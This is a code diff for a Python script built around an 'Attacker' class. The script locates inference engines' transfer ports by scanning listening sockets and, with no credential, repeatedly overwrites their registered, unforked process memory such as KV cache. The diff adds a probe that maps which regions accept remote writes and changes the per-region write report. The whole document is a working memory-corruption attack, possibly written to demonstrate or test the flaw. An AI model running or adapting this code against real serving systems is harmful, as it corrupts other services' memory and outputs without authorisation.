@@ -4,7 +4,7 @@
 
 It has no credential. It finds the engines' ports by looking for listening sockets, and writes to all memory
 of their processes that no fork copies, as all KV is. The engines refuse what is not registered. After each
-sweep it prints {pid: {address: pieces written}} of what is. It ends when its input does.
+sweep it prints {pid: [[bytes of a region, pieces written], ..]} of what is. It ends when its input does.
 """
 
 from __future__ import annotations
@@ -26,6 +26,8 @@ PIECE_BYTES = 256 << 10
 # The lowest copies and slots are used first, so most sweeps cover only them.
 HOT_BYTES = 4 << 20
 _WHOLE_SWEEP_EVERY = 40
+# Of a worker: staged copies and draft features.
+_FEW_REGIONS = 2
 _SPAN = re.compile(r"([0-9a-f]+)-([0-9a-f]+) [r-][w-][x-][ps] ")
 # 127.0.0.1, the same address mapped to IPv6, and ::1, as /proc writes them.
 _LOOPBACK = ("0100007F", "0000000000000000FFFF00000100007F", "00000000000000000000000001000000")
@@ -64,13 +66,33 @@ class Attacker:
         assert self._engine.register_memory(self._address, PIECE_BYTES) == 0
 
     def regions(self, pid: int) -> tuple[str, list[tuple[int, int]]]:
-        """An engine of the process, and where its registered memory begins, and how long it may be."""
+        """An engine of the process, and where its registered memory begins, and how long it is."""
         for port, is_loopback in sorted(listening_ports(pid).items()):
             if not is_loopback and 15_000 <= port < 17_000:
                 peer = f"127.0.0.1:{port}"
                 if self._engine.get_first_buffer_address(peer) > 0:
-                    return peer, [place for place in unforked_memory(pid) if self.sweep(peer, *place, None)]
+                    return peer, self._registered(peer, unforked_memory(pid))
         return "", []
+
+    def _registered(self, peer: str, mappings: list[tuple[int, int]]) -> list[tuple[int, int]]:
+        """The parts of these mappings that the engine lets others write, where each begins such a part.
+
+        The kernel may have joined some; where few begin one, all of each is tried.
+        """
+        for is_whole in (False, True):
+            found: list[tuple[int, int]] = []
+            for begin, n_bytes in mappings:
+                for address in range(begin, begin + n_bytes, HUGE_PAGE_BYTES):
+                    if not self.sweep(peer, address, PIECE_BYTES, None):
+                        if not is_whole:
+                            break
+                    elif found and sum(found[-1]) == address:
+                        found[-1] = (found[-1][0], found[-1][1] + HUGE_PAGE_BYTES)
+                    else:
+                        found.append((address, HUGE_PAGE_BYTES))
+            if len(found) >= _FEW_REGIONS:
+                break
+        return found
 
     def sweep(self, peer: str, address: int, n_bytes: int, ended: threading.Event | None) -> int:
         """Overwrite the region's first bytes until `ended`, or one piece. Returns how many were accepted."""
@@ -115,7 +137,10 @@ def main() -> None:
             for address, n_bytes in places:
                 n_swept = n_bytes if number % _WHOLE_SWEEP_EVERY == 0 else min(n_bytes, HOT_BYTES)
                 written[pid][address] += attacker.sweep(peer, address, n_swept, ended)
-        print(json.dumps(written), flush=True)
+        rows = {
+            pid: [(size, written[pid][place]) for place, size in places] for pid, (_, places) in found.items()
+        }
+        print(json.dumps(rows), flush=True)
         if ended.is_set():
             break
     os._exit(0)
